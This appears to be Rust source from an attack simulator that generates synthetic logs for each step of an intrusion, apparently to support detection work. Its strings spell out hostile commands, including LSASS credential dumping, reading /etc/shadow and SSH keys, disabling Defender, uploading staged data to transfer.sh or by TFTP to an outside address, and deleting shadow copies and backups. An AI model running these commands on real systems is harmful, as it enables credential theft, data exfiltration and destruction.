//! What each act on one host leaves in the logs, by operating system.

use super::{Attack, Doing};
use crate::defence::Peer;
use crate::movement::Move;
use crate::scenario::ActKind;
use crate::telemetry::{Conn, SYSTEM, Scene, Site, User};
use crate::truth::Outcome;
use crate::world::{Account, HostNo, Os, outside};

const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const RUNDLL32: &str = "C:\\Windows\\System32\\rundll32.exe";
const REG: &str = "C:\\Windows\\System32\\reg.exe";
const STAGED: &str = "/dev/shm/.d.tgz";

impl Attack<'_, '_> {
    /// Plays one act and notes it.
    pub(super) fn perform(&mut self, doing: &Doing<'_>) {
        let host = doing.host;
        let os = self.world.host(host).os;
        let person = self.world.person(host);
        let toward = doing.step.toward.as_ref().and_then(|it| self.cast.get(it)).copied();
        let neighbours = toward.map(|it| self.neighbours(host, it, doing.step.count)).unwrap_or_default();
        let chain =
            if doing.step.act == ActKind::Exfiltrate { self.chain(host, doing.at) } else { Vec::new() };
        let mut scene = self.scene(doing);
        match doing.step.act {
            ActKind::Phishing => scene.phishing(host, os, &person),
            ActKind::ExploitPublic => scene.exploit_public(host),
            ActKind::Login => scene.login(host, os, &person),
            ActKind::Beacon => scene.beacon(host, os, &person),
            ActKind::Discover => scene.discover(host, os, &person),
            ActKind::Scan => scene.scan(host, os, &person, &neighbours),
            ActKind::DumpCredentials => scene.dump(host, os),
            ActKind::Spray => scene.spray(host),
            ActKind::Kerberoast => scene.kerberoast(host, &person),
            ActKind::Persist => scene.persist(host, os),
            ActKind::DisableDefences => scene.disable(host, os),
            ActKind::Stage => scene.stage(host, os),
            ActKind::Exfiltrate => scene.exfiltrate(&chain),
            ActKind::ClearLogs => scene.clear_logs(host, os, &person),
            ActKind::Destroy => scene.destroy(host, os),
            // Played by `advance`.
            ActKind::Advance => {}
        }
        let identity = match doing.step.act {
            ActKind::Phishing | ActKind::Login => person.identity,
            _ => None,
        };
        let act = ActKind::ALL.iter().find(|(_, it)| *it == doing.step.act).map_or("", |(name, _)| name);
        let text = format!("{} on {}", act.replace('_', " "), self.world.id(host));
        self.note(doing, doing.step.act.technique(), identity, Outcome::Done, text);
    }

    /// Hosts of the zone of `toward`, with the port a scanner would try and whether the estate lets it through.
    fn neighbours(&self, from: HostNo, toward: HostNo, most: u32) -> Vec<(HostNo, u16, bool)> {
        let zone = &self.world.asset(toward).zone;
        let hosts = self.world.index.in_zone(zone.as_str()).iter().copied().filter(|it| *it != from);
        let tried = hosts.take(most as usize).map(|to| {
            let port = if self.world.host(to).os == Os::Windows { 445 } else { 22 };
            (to, port, self.movement.declared(from, to, port))
        });
        tried.collect()
    }
}

impl Scene<'_, '_> {
    fn phishing(&mut self, host: HostNo, os: Os, person: &Account) {
        if os != Os::Windows {
            self.command(host, User::ROOT, &["bash", "/home/user/Downloads/facture.sh"]);
            return self.linux_agent(host, User::ROOT);
        }
        let user = person.windows();
        let document =
            format!("\"WINWORD.EXE\" /n \"C:\\Users\\{}\\Downloads\\facture_2025-07.docm\"", person.name);
        self.process(host, &user, WORD, &document, OUTLOOK);
        self.wait_ms(24_000);
        let payload = self.rng.hex(96);
        let command = format!("powershell.exe -nop -w hidden -enc {payload}");
        self.process(host, &user, POWERSHELL, &command, WORD);
        self.calls(host, &user, POWERSHELL, outside::COMMAND);
        self.calls_home(host);
        let dropped = format!("C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\upd.dll", person.name);
        self.file_created(host, &user, POWERSHELL, &dropped);
    }

    fn exploit_public(&mut self, host: HostNo) {
        let name = self.world.host(host).name.clone();
        let conn = Conn {
            service: Some("http"),
            ..Conn::tcp(Peer::Outside(outside::COMMAND), Peer::Host(host), 443)
        };
        if let Some(seen) = self.conn(conn) {
            self.zeek_http(&seen, "GET", &name, "/api/../../../etc/passwd", "curl/8.5.0", 200);
            self.zeek_http(&seen, "POST", &name, "/uploads/i.php?cmd=id", "curl/8.5.0", 200);
        }
        self.exploited(host);
    }

    fn login(&mut self, host: HostNo, os: Os, person: &Account) {
        let from = Peer::Outside(outside::COMMAND);
        match os {
            Os::Windows => {
                self.conn(Conn { service: Some("ssl,rdp"), ..Conn::tcp(from, Peer::Host(host), 3389) });
                self.logon(host, person, 10, Some(outside::COMMAND), true);
            }
            Os::Linux => {
                let conn = Conn { service: Some("ssh"), ..Conn::tcp(from, Peer::Host(host), 22) };
                if let Some(seen) = self.conn(conn) {
                    self.zeek_ssh(&seen, true, 2);
                }
                self.sshd_failed(host, &person.name, Some(outside::COMMAND));
                self.sshd_accepted(host, &person.name, Some(outside::COMMAND), true);
            }
            Os::Network => self.device_login(host, &person.name, Some(outside::COMMAND)),
        }
    }

    fn beacon(&mut self, host: HostNo, os: Os, person: &Account) {
        if os == Os::Windows {
            self.calls(host, &person.windows(), RUNDLL32, outside::COMMAND);
        }
        self.calls_home(host);
    }

    fn discover(&mut self, host: HostNo, os: Os, person: &Account) {
        match os {
            Os::Windows => {
                let user = person.windows();
                for command in [
                    "whoami.exe /groups",
                    "nltest.exe /domain_trusts /all_trusts",
                    "net.exe group \"Domain Admins\" /domain",
                ] {
                    let image = command.split(' ').next().unwrap_or_default();
                    self.process(host, &user, image, command, "cmd.exe");
                }
            }
            Os::Linux => {
                for arguments in
                    [&["id"][..], &["cat", "/etc/passwd"], &["find", "/home", "-name", "id_rsa*"]]
                {
                    self.command(host, User::ROOT, arguments);
                }
            }
            Os::Network => self.device_command(host, "admin", "show running-config"),
        }
    }

    fn scan(&mut self, host: HostNo, os: Os, person: &Account, neighbours: &[(HostNo, u16, bool)]) {
        let net = neighbours
            .first()
            .and_then(|it| self.world.host(it.0).address)
            .map_or(String::new(), |it| it.to_string());
        match os {
            Os::Windows => {
                let command = "powershell.exe -c \"1..254 | % { Test-NetConnection -Port 445 }\"";
                self.process(host, &person.windows(), POWERSHELL, command, "cmd.exe");
            }
            Os::Linux => {
                self.command(host, User::ROOT, &["nmap", "-Pn", "-p22,445,3389,5432", &format!("{net}/24")]);
            }
            Os::Network => {}
        }
        for &(to, port, open) in neighbours {
            let (from, to) = (Peer::Host(host), Peer::Host(to));
            if open {
                self.conn(Conn { sent: 0, received: 0, seconds: 0, ..Conn::tcp(from, to, port) });
            } else {
                self.conn(Conn::unanswered(from, to, port));
                self.denied(host, to, port);
            }
        }
    }

    fn dump(&mut self, host: HostNo, os: Os) {
        match os {
            Os::Windows => {
                let command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 C:\\Windows\\Temp\\lsass_692.dmp full";
                self.process(host, SYSTEM, RUNDLL32, command, "cmd.exe");
                self.process_access(host, RUNDLL32, "C:\\Windows\\System32\\lsass.exe", "0x1fffff");
                self.file_created(host, SYSTEM, RUNDLL32, "C:\\Windows\\Temp\\lsass_692.dmp");
            }
            Os::Linux => {
                self.command(host, User::ROOT, &["cat", "/etc/shadow"]);
                self.command(host, User::ROOT, &["cat", "/root/.ssh/id_ed25519"]);
            }
            Os::Network => {
                self.device_command(host, "admin", "copy running-config tftp://203.0.113.66/r.cfg");
            }
        }
    }

    fn spray(&mut self, host: HostNo) {
        let (world, source) = (self.world, self.world.host(host).address);
        let Some(directory) = world.directory() else { return };
        let known = world.estate.identities.iter().map(|it| world.account(it));
        let made_up = (1..).map(|it| Account {
            identity: None,
            domain: world.domain.clone(),
            name: format!("agent{it:03}"),
        });
        for account in known.chain(made_up).take(14) {
            let conn =
                Conn { service: Some("krb_tcp"), ..Conn::tcp(Peer::Host(host), Peer::Host(directory), 88) };
            if let Some(seen) = self.conn(conn) {
                let client = format!("{}/{}", account.name, account.domain);
                let service = format!("krbtgt/{}", account.domain);
                self.zeek_kerberos(&seen, "AS", &client, &service, Some("KDC_ERR_PREAUTH_FAILED"));
            }
            self.logon(directory, &account, 3, source, false);
        }
    }

    fn kerberoast(&mut self, host: HostNo, person: &Account) {
        let (Some(directory), Some(source)) = (self.world.directory(), self.world.host(host).address) else {
            return;
        };
        for service in ["svc-sql01", "svc-bi", "svc-crm", "svc-batch", "svc-print", "svc-web"] {
            let conn =
                Conn { service: Some("krb_tcp"), ..Conn::tcp(Peer::Host(host), Peer::Host(directory), 88) };
            if let Some(seen) = self.conn(conn) {
                let client = format!("{}/{}", person.name, person.domain);
                self.zeek_kerberos(&seen, "TGS", &client, service, None);
            }
            self.service_ticket(directory, person, service, true, source);
        }
    }

    fn persist(&mut self, host: HostNo, os: Os) {
        match os {
            Os::Windows => {
                self.service_installed(host, "WinUpdSvc", "C:\\Windows\\Temp\\wus.exe");
                let key = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WinUpd";
                self.registry_set(host, SYSTEM, REG, key, "rundll32.exe C:\\ProgramData\\upd.dll,Start");
            }
            Os::Linux => {
                self.command(host, User::ROOT, &["tee", "-a", "/root/.ssh/authorized_keys"]);
                let unit = "/etc/systemd/system/kworker-helper.service";
                self.file_created_linux(host, User::ROOT, "/usr/bin/tee", unit);
            }
            Os::Network => self.device_command(host, "admin", "username support privilege 15 secret *"),
        }
    }

    fn disable(&mut self, host: HostNo, os: Os) {
        match os {
            Os::Windows => {
                let command = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true";
                self.process(host, SYSTEM, POWERSHELL, command, "cmd.exe");
            }
            Os::Linux => self.command(host, User::ROOT, &["systemctl", "stop", "rsyslog"]),
            Os::Network => self.device_command(host, "admin", "no logging host 10.80.0.5"),
        }
    }

    fn stage(&mut self, host: HostNo, os: Os) {
        match os {
            Os::Windows => {
                let command = "rar.exe a -r -hpQ7w C:\\Users\\Public\\c.rar D:\\Exports";
                self.process(host, SYSTEM, "C:\\Users\\Public\\rar.exe", command, "cmd.exe");
            }
            Os::Linux => {
                self.command(
                    host,
                    User::ROOT,
                    &["pg_dump", "-Fc", "-f", "/var/tmp/.c/customers.dump", "crm"],
                );
                self.command(host, User::ROOT, &["tar", "czf", STAGED, "/var/tmp/.c"]);
            }
            Os::Network => {}
        }
    }

    /// Data leave `chain`'s last host: by its own way out, or back along the chain to the host the attacker came in by.
    fn exfiltrate(&mut self, chain: &[(HostNo, Option<Move>)]) {
        let (Some(&(first, _)), Some(&(last, _))) = (chain.first(), chain.last()) else { return };
        let volume = self.rng.range(600_000_000, 2_400_000_000);
        if self.has_way_out(last) {
            return self.upload(last, volume);
        }
        if self.world.host(last).os == Os::Linux {
            self.command(last, User::ROOT, &["cat", STAGED]);
        }
        for pair in chain.windows(2).rev() {
            let (from, to) = (pair[0].0, pair[1].0);
            let port = pair[1].1.map_or(22, |it| it.port);
            let conn = Conn::tcp(Peer::Host(from), Peer::Host(to), port);
            self.conn(Conn { sent: 4_000_000, received: volume, seconds: 1200, ..conn });
        }
        if self.has_way_out(first) {
            return self.upload(first, volume);
        }
        let conn = Conn::tcp(Peer::Outside(outside::COMMAND), Peer::Host(first), 22);
        self.conn(Conn { service: Some("ssh"), sent: 4_000_000, received: volume, seconds: 1200, ..conn });
    }

    fn upload(&mut self, host: HostNo, volume: u64) {
        let site = Site { name: Some("transfer.sh"), address: outside::DROP };
        self.look_up(host, "transfer.sh");
        match self.world.host(host).os {
            Os::Windows => {
                let tool = "C:\\Users\\Public\\rclone.exe";
                let command = "rclone.exe copy C:\\Users\\Public\\c.rar drop:in --transfers 8";
                self.process(host, SYSTEM, tool, command, "cmd.exe");
                self.dns_query(host, SYSTEM, tool, "transfer.sh", outside::DROP);
                self.calls(host, SYSTEM, tool, outside::DROP);
            }
            Os::Linux => {
                self.command(host, User::ROOT, &["curl", "-s", "-T", STAGED, "https://transfer.sh/d"]);
            }
            Os::Network => {}
        }
        self.web(host, site, volume, 90_000);
    }

    fn clear_logs(&mut self, host: HostNo, os: Os, person: &Account) {
        match os {
            Os::Windows => self.log_cleared(host, person),
            Os::Linux => self.command(host, User::ROOT, &["truncate", "-s", "0", "/var/log/auth.log"]),
            Os::Network => self.device_command(host, "admin", "clear logging"),
        }
    }

    fn destroy(&mut self, host: HostNo, os: Os) {
        match os {
            Os::Windows => self.process(
                host,
                SYSTEM,
                "vssadmin.exe",
                "vssadmin.exe Delete Shadows /All /Quiet",
                "cmd.exe",
            ),
            Os::Linux => self.command(host, User::ROOT, &["rm", "-rf", "/var/log/audit", "/var/backups"]),
            Os::Network => self.device_command(host, "admin", "erase startup-config"),
        }
    }
}
